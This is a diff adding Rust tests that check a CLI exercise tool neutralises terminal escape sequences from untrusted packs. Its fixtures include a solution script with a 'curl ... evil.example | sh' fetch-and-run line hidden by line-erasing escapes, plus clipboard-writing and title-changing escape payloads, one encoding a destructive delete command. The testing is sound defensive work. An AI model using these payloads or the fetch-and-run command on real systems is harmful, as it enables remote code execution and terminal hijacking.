@@ -9,6 +9,7 @@ use std::path::{Path, PathBuf};
 use std::process::Output;
 
 use assert_cmd::Command;
+use predicates::prelude::*;
 
 fn workbook() -> Command {
     let mut cmd = Command::cargo_bin("workbook").unwrap();
@@ -553,4 +554,165 @@ fn pack_paths_stay_inside_the_pack() {
             );
         }
     }
+}
+
+// ---------------------------------------------------------------- 5. escape sequences
+
+/// No byte that a terminal would act on: ESC, CR, BEL, and none of C1 (as UTF-8, U+0080 to
+/// U+009F are C2 80 to C2 9F).
+fn assert_inert(what: &str, bytes: &[u8]) {
+    for (i, b) in bytes.iter().enumerate() {
+        let c1 = *b == 0xC2 && bytes.get(i + 1).is_some_and(|n| (0x80..=0x9F).contains(n));
+        assert!(
+            !matches!(b, 0x1B | b'\r' | 0x07) && !c1,
+            "{what}: byte {b:#04x} at {i} in\n{}",
+            String::from_utf8_lossy(bytes)
+        );
+    }
+}
+
+#[test]
+fn no_escape_sequence_of_a_pack_reaches_the_terminal() {
+    let mut made = Made::default();
+    let box_ = made.container("ansi");
+    let vol = made.volume_name("ansi-vol");
+    // Container output with escapes, compared with what the pack expects (so it is echoed).
+    let printer = "printf 'out\\033]0;owned\\007\\033[2K\\r\\302\\233\\n'; printf 'err\\033]52;c;eA==\\007\\n' >&2; exit 3";
+    let toml = format!(
+        r#"format = 1
+title = "Friendly pack\u001b]0;owned\u0007"
+lesson = "ansi.md"
+[resources]
+containers = ["{box_}"]
+[[setup.volumes]]
+name = "{vol}"
+  [[setup.volumes.files]]
+  path = "seed.txt"
+  content = "x"
+[[steps]]
+id = "s"
+title = "Make a volume\u001b]52;c;cm0gLXJmIH4K\u0007"
+task = "Create `v\u001b[2K`\r\u202e."
+hint = "h\u001b[1A\u009b2K"
+  [[steps.checks]]
+  kind = "volume"
+  name = "wbtest-no-such-volume\u001b[2K\r-{pid}"
+[[steps]]
+id = "t"
+title = "Exec\u0007"
+task = "t"
+hint = "h"
+  [[steps.checks]]
+  kind = "exec"
+  container = "{box_}"
+  command = ["sh", "-c", "{printer}"]
+  exit_code = 3
+  stdout_contains = "nothing like it"
+"#,
+        pid = std::process::id(),
+        printer = printer.replace('\\', "\\\\")
+    );
+    let pack = write_pack(&[
+        ("exercises/01-ansi/exercise.toml", toml),
+        (
+            "lessons/ansi.md",
+            "# Lesson\u{1b}]0;owned\u{7}\n\nIntro \u{1b}[31mred\u{1b}[0m \u{202e}txt.\n\n```sh\nls\u{1b}[2K\r\n```\n\n[l\u{1b}](http://x\u{1b}[1A)\n".to_string(),
+        ),
+        (
+            "solutions/01-ansi/solve.sh",
+            "echo \"creating a scratch volume\"\ncurl -s http://evil.example/x | sh  \u{1b}[2K\r\u{1b}[1A\ndocker volume create scratch\n".to_string(),
+        ),
+    ]);
+    // A second pack whose exercise.toml has a raw escape: the TOML error echoes the line.
+    let broken = write_pack(&[
+        (
+            "exercises/01-b/exercise.toml",
+            "format = 1\ntitle = \"a\u{1b}]0;owned\u{7}\u{9b}\"\n".to_string(),
+        ),
+        ("lessons/b.md", "# B\n".to_string()),
+    ]);
+    let dir = tempfile::tempdir().unwrap();
+    let ws = dir.path().join("ws");
+    let p = pack.path();
+    let runs: Vec<(&str, Vec<&str>)> = vec![
+        ("init", vec!["init"]),
+        ("list", vec!["list"]),
+        ("lesson", vec!["lesson"]),
+        ("hint", vec!["hint"]),
+        ("solution", vec!["solution"]),
+        ("solution --run", vec!["solution", "--run"]),
+        ("check", vec!["check"]),
+        ("check --yes", vec!["check", "--yes"]),
+        ("next", vec!["next"]),
+        ("check --json", vec!["check", "--json"]),
+    ];
+    let mut seen = String::new();
+    for (what, args) in runs {
+        let out = in_pack(p, &ws, &args);
+        assert_inert(&format!("{what} stdout"), &out.stdout);
+        assert_inert(&format!("{what} stderr"), &out.stderr);
+        let (o, e) = text(&out);
+        seen.push_str(&format!("--- {what} ({:?})\n{o}{e}", out.status.code()));
+    }
+    for (what, out) in [
+        (
+            "dev check",
+            workbook()
+                .args(["dev", "check"])
+                .arg(p.join("exercises"))
+                .output()
+                .unwrap(),
+        ),
+        (
+            "dev check broken",
+            workbook()
+                .args(["dev", "check"])
+                .arg(broken.path().join("exercises"))
+                .output()
+                .unwrap(),
+        ),
+        ("list broken", in_pack(broken.path(), &ws, &["list"])),
+    ] {
+        assert_inert(&format!("{what} stdout"), &out.stdout);
+        assert_inert(&format!("{what} stderr"), &out.stderr);
+        let (o, e) = text(&out);
+        seen.push_str(&format!("--- {what} ({:?})\n{o}{e}", out.status.code()));
+    }
+    // What was neutralised is shown, visibly: the confirmation shows what really runs.
+    for visible in [
+        "Friendly pack\\x1b]0;owned\\x07", // list, check: the title
+        "curl -s http://evil.example/x | sh  \\x1b[2K\\r", // solution, solution --run
+        "Intro \\x1b[31mred\\x1b[0m \\u{202e}txt.", // lesson
+        "h\\x1b[1A\\u{9b}2K",              // hint
+        "wbtest-no-such-volume\\x1b[2K\\r-", // a check's message
+        "out\\x1b]0;owned\\x07\\x1b[2K\\r\\u{9b}", // container output
+        "title = \"a\\x1b]0;owned\\x07\\u{9b}\"", // a TOML error's echo
+    ] {
+        assert!(seen.contains(visible), "not shown: {visible}\n{seen}");
+    }
+    // The confirmation of `solution --run` shows the real script; nothing ran.
+    assert!(
+        seen.contains("Nothing was run") || seen.contains("--yes"),
+        "{seen}"
+    );
+}
+
+#[test]
+fn the_workbooks_own_colours_still_work() {
+    let out = workbook()
+        .env_remove("NO_COLOR")
+        .env("CLICOLOR_FORCE", "1")
+        .args(["lesson", "01"])
+        .output()
+        .unwrap();
+    assert!(out.status.success());
+    assert!(
+        out.stdout.contains(&0x1b),
+        "no styling left in a built-in lesson"
+    );
+    workbook()
+        .args(["lesson", "01"])
+        .assert()
+        .success()
+        .stdout(predicate::str::contains("\x1b").not());
 }
